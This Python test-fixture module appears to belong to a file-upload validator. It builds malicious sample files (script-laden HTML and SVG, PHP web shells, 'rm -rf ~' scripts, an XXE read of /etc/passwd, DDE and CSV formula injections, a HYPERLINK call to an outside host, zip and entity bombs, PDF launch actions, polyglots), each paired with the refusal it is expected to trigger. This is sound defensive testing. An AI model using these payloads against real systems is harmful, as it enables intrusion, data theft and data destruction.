"""Files that harm: name, bytes, and what they are refused for. Made here: nothing harmful lies in the checkout."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import PngImagePlugin

from tests.uploads.content import samples
from tests.uploads.content.samples import MAIN, docx, image, pdf, related, relation, xlsx, zipped
from uploads.content.refusal import Refusal

SCRIPT = b"<script>fetch('/accounts/profile/')</script>"
PAGE = b"<!DOCTYPE html><html><body onload=alert(1)>" + SCRIPT
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0"
LOCKED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(400)
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "WordDocument".encode("utf-16-le") + bytes(400)
NAMES = {"javascript": "JavaScript", "launch": "Launch", "submit": "SubmitForm", "import": "ImportData",
         "embedded": "GoToE", "remote": "GoToR", "rendition": "Rendition"}  # fmt: skip


def action(kind, **facts):
    """A PDF that acts when it is opened."""
    return lambda: pdf(lambda made: made.Root.update({"/OpenAction": dictionary(S=f"/{kind}", **facts)}))


def dictionary(**facts):
    return pikepdf.Dictionary(
        {f"/{key}": pikepdf.Name(value) if value.startswith("/") else value for key, value in facts.items()}
    )


def annotation(**facts):
    def add(made):
        made.pages[0].Annots = pikepdf.Array([dictionary(Type="/Annot", **facts)])

    return lambda: pdf(add)


def with_file(made):
    made.attachments["run.exe"] = pikepdf.AttachedFileSpec(made, PROGRAM, filename="run.exe")


def with_nameless_file(made):
    """The file hangs on a page, is in no list of files, and does not say that it is one."""
    stream = made.make_stream(PROGRAM)
    made.pages[0].AF = pikepdf.Array([pikepdf.Dictionary(F=pikepdf.String("a"), EF=pikepdf.Dictionary(F=stream))])


def with_second_form(made):
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=made.make_stream(b"<xdp/>"))


def with_named_script(made):
    script = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    names = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    made.Root.Names = pikepdf.Dictionary(JavaScript=names)


def with_page_script(made):
    made.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1")))


def spelled_oddly():
    return (
        action("JavaScript", JS="app.alert(1)")().replace(b"/JavaScript", b"/J#61vaScrip#74").replace(b"/JS", b"/#4aS")
    )


def with_kind_apart(made):
    """What the action does stands in an object of its own."""
    does = made.make_indirect(pikepdf.Name.Launch)
    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=does, F=pikepdf.String("cmd.exe")))


def packed_script():
    return pdf(with_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def locked_pdf():
    return pdf(encryption=pikepdf.Encryption(owner="owner", user="user"))


def many_objects(count=250_000):
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    return head + b"".join(b"%d 0 obj 1 endobj\n" % number for number in range(3, count)) + b"trailer<</Root 1 0 R>>\n"


def many_packed_objects():
    table = (
        b"9 0 obj<</Type/XRef/W[1 2 1]/Index[0 1000000]/Size 1000000/Root 1 0 R/Length 0>>stream\nendstream endobj\n"
    )
    return b"%PDF-1.7\n" + table + b"startxref\n9\n%%EOF\n"


def lost_script():
    """The table of objects is gone; a script stands where nothing refers to it."""
    whole = pdf()
    body = whole[: whole.rindex(b"xref\n")]
    return body + b"77 0 obj\n<< /S /JavaScript /JS (app.alert(1)) \nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def png_chunks(*chunks):
    parts = [
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def png_of(width, height, rows=b""):
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return png_chunks((b"IHDR", header), (b"IDAT", zlib.compress(rows, 9)), (b"IEND", b""))


def png_text(text):
    about = PngImagePlugin.PngInfo()
    about.add_text("Comment", text)
    return image("PNG", pnginfo=about)


def png_text_bomb():
    packed = zlib.compress(bytes(20_000_000), 9)
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = (b"IDAT", zlib.compress(b"\0\0\0\0"))
    return png_chunks((b"IHDR", header), (b"zTXt", b"Comment\0\0" + packed), body, (b"IEND", b""))


def jpeg_size(width, height):
    """A photo of a few bytes that claims to be huge."""
    whole = image("JPEG")
    at = whole.index(b"\xff\xc0") + 5
    return whole[:at] + struct.pack(">HH", height, width) + whole[at + 4 :]


def endless_scan():
    """A hundred bytes a page, and each page is the same strip again: six hundred directories."""
    strip, width = b"\0" * 8, 8
    out = bytearray(b"II*\0" + struct.pack("<I", 16) + strip)
    for page in range(600):
        entries = [(256, width), (257, 8), (258, 1), (259, 1), (262, 1), (273, 8), (277, 1), (278, 8), (279, 8)]
        out += struct.pack("<H", len(entries))
        for tag, value in entries:
            out += struct.pack("<HHII", tag, 4, 1, value)
        out += struct.pack("<I", 0 if page == 599 else len(out) + 4)
    return bytes(out)


def zip_bomb():
    return docx({"word/media/image1.bmp": bytes(60_000_000)})


def zip_of_many():
    return docx({f"word/media/{number}": b"" for number in range(6000)})


def zip_overlap():
    """Each name of the directory leads to the same bytes."""
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", b"<Types/>")
        package.writestr("word/0.xml", bytes(2_000_000))
        package.filelist += [_again(package.filelist[1], number) for number in range(1, 4)]
        for entry in package.filelist[2:]:
            package.NameToInfo[entry.filename] = entry
    return written.getvalue()


def _again(entry, number):
    copy = type(entry)(f"word/{number}.xml")
    for field in ("compress_type", "compress_size", "file_size", "CRC", "header_offset", "flag_bits"):
        setattr(copy, field, getattr(entry, field))
    return copy


def zip_small_sizes():
    """The directory says that the part is small; it is not."""
    whole = docx({"word/media/image1.bmp": bytes(1_000_000)})
    return whole.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 10))


def locked_zip():
    whole = bytearray(docx())
    at = whole.index(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def xml_with(declared):
    return f'{declared}<w:document xmlns:w="w"><w:body>&a;</w:body></w:document>'


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
STEALS = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FIELD = '<w:p xmlns:w="w"><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
RENAMED_MACROS = (
    f'<Types xmlns="a"><Override PartName="/word/document.xml" ContentType="{samples.WORD}"/>'
    '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
AWAY = "https://elsewhere.example/x"
R = Refusal

HOSTILE = {
    # Pages and drawings, whatever they are called (S40)
    "page.html": (lambda: PAGE, R.HTML),
    "page.htm.pdf": (lambda: PAGE, R.HTML),
    "page.xhtml": (lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT, R.HTML),
    "data.xml": (lambda: b'<?xml version="1.0"?><a/>', R.HTML),
    "late page.txt": (lambda: b"Dear all\n" * 20_000 + PAGE, R.HTML),
    "split tag.txt": (lambda: b"a" * (1024 * 1024 - 4) + SCRIPT, R.HTML),
    "handler.txt": (lambda: b"hello <img src=x onerror=alert(1)>", R.HTML),
    "wide page.txt": (lambda: PAGE.decode().encode("utf-16"), R.HTML),
    "marked page.txt": (lambda: b"\xef\xbb\xbf  \n" + PAGE, R.HTML),
    "saved page.mht": (lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE, R.HTML),
    "drawing.svg": (lambda: SVG, R.SVG),
    "drawing.png": (lambda: SVG, R.SVG),
    "prefixed.svg": (lambda: b'<a:svg xmlns:a="http://www.w3.org/2000/svg"/>', R.SVG),
    "packed.svgz": (lambda: b"\x1f\x8b\x08\0" + SVG, R.ARCHIVE),
    # Programs
    "setup.exe": (lambda: PROGRAM, R.EXECUTABLE),
    "photo.jpg.exe": (lambda: PROGRAM, R.EXECUTABLE),
    "letter.pdf": (lambda: PROGRAM, R.EXECUTABLE),
    "program": (lambda: b"\x7fELF\x02\x01\x01" + bytes(60), R.EXECUTABLE),
    "program.app": (lambda: b"\xcf\xfa\xed\xfe" + bytes(60), R.EXECUTABLE),
    "tool.class": (lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(20), R.EXECUTABLE),
    "tool.jar": (
        lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
        R.EXECUTABLE,
    ),
    "run.sh": (lambda: b"#!/bin/sh\nrm -rf ~\n", R.EXECUTABLE),
    "run.bat": (lambda: b"@echo off\r\ndel *.*\r\n", R.EXECUTABLE),
    "shell.php": (lambda: b"<?php system($_GET['c']);", R.EXECUTABLE),
    "shell.txt": (lambda: b"Hello\n<?php system($_GET['c']);", R.EXECUTABLE),
    "link.lnk": (lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F", R.EXECUTABLE),
    "link.url": (lambda: b"[InternetShortcut]\r\nURL=file://elsewhere/x\r\n", R.EXECUTABLE),
    "keys.reg": (lambda: "Windows Registry Editor Version 5.00\r\n".encode("utf-16"), R.EXECUTABLE),
    # Other formats
    "archive.zip": (lambda: zipped({"a.pdf": b"%PDF-1.4"}), R.ARCHIVE),
    "renamed.docx": (lambda: zipped({"a.pdf": b"%PDF-1.4"}), R.ARCHIVE),
    "archive.rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), R.ARCHIVE),
    "archive.7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40), R.ARCHIVE),
    "archive.tar": (lambda: b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + bytes(300), R.ARCHIVE),
    "old.doc": (lambda: OLD_WORD, R.TYPE),
    "letter.rtf": (lambda: rb"{\rtf1{\object\objupdate\objdata 01050000}}", R.TYPE),
    "print.ps": (lambda: b"%!PS\n(%pipe%id) (w) file", R.TYPE),
    "sheet.csv": (lambda: b"ID;P\nC;Y1;X1;E1+1\n", R.TYPE),
    "picture.gif": (lambda: image("GIF"), R.TYPE),
    "script.gif": (lambda: b"GIF89a/*" + image("GIF")[8:] + b"*/=1;alert(1)", R.TYPE),
    "film.mp4": (lambda: b"\0\0\0\x20ftypisom" + bytes(40), R.TYPE),
    "picture.avif": (lambda: b"\0\0\0\x1cftypmif1\0\0\0\0mif1avifmiaf" + bytes(40), R.TYPE),
    "raw.tif": (lambda: b"II*\0\x10\0\0\0CR\x02\0" + bytes(40), R.TYPE),
    "slides.pptx": (lambda: docx(kind=MAIN.format("presentationml.presentation")), R.TYPE),
    "nothing.pdf": (lambda: b"", R.EMPTY),
    # Bombs, of scenario S42
    "wall.png": (lambda: png_of(20_000, 20_000), R.BOMB),
    "wall.jpg": (lambda: jpeg_size(60_000, 60_000), R.BOMB),
    "line.png": (lambda: png_of(1, 70_000_000), R.BOMB),
    "text.png": (png_text_bomb, R.BROKEN),
    "pages.tif": (endless_scan, R.BOMB),
    "objects.pdf": (many_objects, R.BOMB),
    "packed objects.pdf": (many_packed_objects, R.BOMB),
    "bomb.docx": (zip_bomb, R.BOMB),
    "entries.docx": (zip_of_many, R.BOMB),
    "overlap.docx": (zip_overlap, R.BOMB),
    "small sizes.docx": (zip_small_sizes, R.BROKEN),
    "laughs.docx": (lambda: docx({"word/styles.xml": xml_with(LAUGHS)}), R.BOMB),
    "wide laughs.docx": (lambda: docx({"word/styles.xml": xml_with(LAUGHS).encode("utf-16")}), R.BOMB),
    "steals.xlsx": (lambda: xlsx({"xl/worksheets/sheet1.xml": xml_with(STEALS)}), R.BOMB),
    # Locked
    "locked.pdf": (locked_pdf, R.ENCRYPTED),
    "locked.docx": (lambda: LOCKED, R.ENCRYPTED),
    "locked zip.docx": (locked_zip, R.ENCRYPTED),
    # PDFs that act
    **{f"{name}.pdf": (action(kind, F="a"), R.ACTIVE) for name, kind in NAMES.items()},
    "named script.pdf": (lambda: pdf(with_named_script), R.ACTIVE),
    "page script.pdf": (lambda: pdf(with_page_script), R.ACTIVE),
    "packed script.pdf": (packed_script, R.ACTIVE),
    "kind apart.pdf": (lambda: pdf(with_kind_apart), R.ACTIVE),
    "packed kind.pdf": (
        lambda: pdf(with_kind_apart, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        R.ACTIVE,
    ),
    "odd spelling.pdf": (spelled_oddly, R.ACTIVE),
    "lost script.pdf": (lost_script, R.ACTIVE),
    "attached.pdf": (lambda: pdf(with_file), R.ACTIVE),
    "nameless attached.pdf": (lambda: pdf(with_nameless_file), R.ACTIVE),
    "pinned file.pdf": (annotation(Subtype="/FileAttachment"), R.ACTIVE),
    "player.pdf": (annotation(Subtype="/RichMedia"), R.ACTIVE),
    "model.pdf": (annotation(Subtype="/3D"), R.ACTIVE),
    "second form.pdf": (lambda: pdf(with_second_form), R.ACTIVE),
    # Documents that act
    "macros.docx": (lambda: docx({"word/vbaProject.bin": b"x"}), R.MACROS),
    "macros.docm": (lambda: docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), R.MACROS),
    "macros.xlsm": (lambda: xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), R.MACROS),
    "old macros.xlsx": (lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), R.MACROS),
    "renamed macros.docx": (lambda: docx({"[Content_Types].xml": RENAMED_MACROS, "word/a.bin": b"x"}), R.MACROS),
    "related macros.docx": (lambda: docx({**related(relation("vbaProject", "a.bin")), "word/a.bin": b"x"}), R.ACTIVE),
    "renamed object.docx": (lambda: docx({**related(relation("oleObject", "a.bin")), "word/a.bin": b"x"}), R.ACTIVE),
    "control.docx": (lambda: docx({"word/activeX/activeX1.bin": b"x"}), R.MACROS),
    "object.docx": (lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), R.ACTIVE),
    "program inside.docx": (lambda: docx({"word/embeddings/run.exe": PROGRAM}), R.ACTIVE),
    "page inside.docx": (lambda: docx({"word/afchunk.html": PAGE}), R.ACTIVE),
    "page part.docx": (lambda: docx(related(relation("aFChunk", "a.dat"))), R.ACTIVE),
    "template.docx": (lambda: docx(related(relation("attachedTemplate", AWAY, "External"))), R.ACTIVE),
    "odd template.docx": (lambda: docx(related(relation("attachedTemplate", AWAY, "&#69;xternal"))), R.ACTIVE),
    "beacon.docx": (lambda: docx(related(relation("image", "file://elsewhere.example/x", "External"))), R.ACTIVE),
    "split field.docx": (
        lambda: docx({"word/document.xml": FIELD.format("DDE", 'AUTO c:\\\\cmd "/c calc"')}),
        R.ACTIVE,
    ),
    "link.xlsx": (lambda: xlsx({"xl/externalLinks/externalLink1.xml": DDE}), R.ACTIVE),
    "database.xlsx": (lambda: xlsx({"xl/connections.xml": "<connections/>"}), R.ACTIVE),
    "macros in chart.docx": (
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}),
        R.MACROS,
    ),
    "formula.csv": (lambda: b"name;pulse\nA;=cmd|' /C calc'!A0\n", R.ACTIVE),
    "fetch.csv": (lambda: b'name,pulse\nA,"=HYPERLINK(""https://elsewhere.example/""&A1)"\n', R.ACTIVE),
    # Two files in one (S41)
    "script.jpg": (lambda: b"\xff\xd8\xff\xe0/*JFIF" + bytes(40) + b"*/=alert(1);/*", R.POLYGLOT),
    "page in comment.jpg": (lambda: image("JPEG", comment=SCRIPT), R.POLYGLOT),
    "page after.jpg": (lambda: image("JPEG") + PAGE, R.POLYGLOT),
    "zip after.jpg": (lambda: image("JPEG") + zipped({"a.txt": "a"}), R.POLYGLOT),
    "zip inside.jpg": (lambda: image("JPEG", comment=zipped({"a.txt": "a"})), R.POLYGLOT),
    "rar after.jpg": (lambda: image("JPEG") + b"Rar!\x1a\x07\x01\0" + bytes(40), R.POLYGLOT),
    "program after.jpg": (lambda: image("JPEG") + PROGRAM, R.POLYGLOT),
    "script after.png": (lambda: image("PNG") + b"\n#!/bin/sh\nid\n", R.POLYGLOT),
    "program after.png": (lambda: image("PNG") + PROGRAM, R.POLYGLOT),
    "page in text.png": (lambda: png_text("<html><script>alert(document.domain)</script>"), R.POLYGLOT),
    "shell in text.png": (lambda: png_text("<?php system($_GET['c']); ?>"), R.POLYGLOT),
    "pdf inside.png": (lambda: png_text("%PDF-1.4 1 0 obj"), R.POLYGLOT),
    "pdf late.png": (lambda: image("PNG") + bytes(2000) + b"%PDF-1.4\n1 0 obj", R.POLYGLOT),
    "page after.webp": (lambda: image("WEBP") + PAGE, R.POLYGLOT),
    "zip after.tif": (lambda: image("TIFF") + zipped({"a.txt": "a"}), R.POLYGLOT),
    "zip after.heic": (lambda: samples.heic() + zipped({"a.txt": "a"}), R.POLYGLOT),
    "late header.pdf": (lambda: b"/*" + pdf(), R.POLYGLOT),
    "page before.pdf": (lambda: PAGE + pdf(), R.POLYGLOT),
    "page at start.pdf": (lambda: b"%PDF-1.4\n%" + PAGE + pdf()[9:], R.POLYGLOT),
    "page after.pdf": (lambda: pdf() + PAGE, R.POLYGLOT),
    "zip after.pdf": (lambda: pdf() + zipped({"a.txt": "a"}), R.POLYGLOT),
    "program.dcm": (lambda: PROGRAM[:128].ljust(128, b"\0") + samples.dicom()[128:], R.POLYGLOT),
    "picture.dcm": (lambda: b"II*\0".ljust(128, b"\0") + samples.dicom()[128:], R.POLYGLOT),
    "page inside.dcm": (
        lambda: samples.dicom(lambda facts: setattr(facts, "StudyDescription", SCRIPT.decode())),
        R.POLYGLOT,
    ),
    # Broken
    "half.jpg": (lambda: image("JPEG")[:400], R.BROKEN),
    "half.png": (lambda: image("PNG")[:-30], R.BROKEN),
    "half.webp": (lambda: image("WEBP")[:60], R.BROKEN),
    "half.heic": (lambda: samples.heic()[:300], R.BROKEN),
    "half.docx": (lambda: docx()[:-40], R.BROKEN),
    "half.dcm": (lambda: samples.dicom()[:150], R.BROKEN),
    "no pages.pdf": (lambda: pdf(count=0), R.BROKEN),
    "only a header.pdf": (lambda: b"%PDF-1.7\n", R.BROKEN),
    "torn.docx": (lambda: docx({"word/styles.xml": "<a><b></a>"}), R.BROKEN),
    "twice.docx": (lambda: docx({"WORD/document.xml": "<a/>"}), R.BROKEN),
    "control characters.txt": (lambda: b"a" * 100_000 + b"\0\x01\x02", R.BROKEN),
}
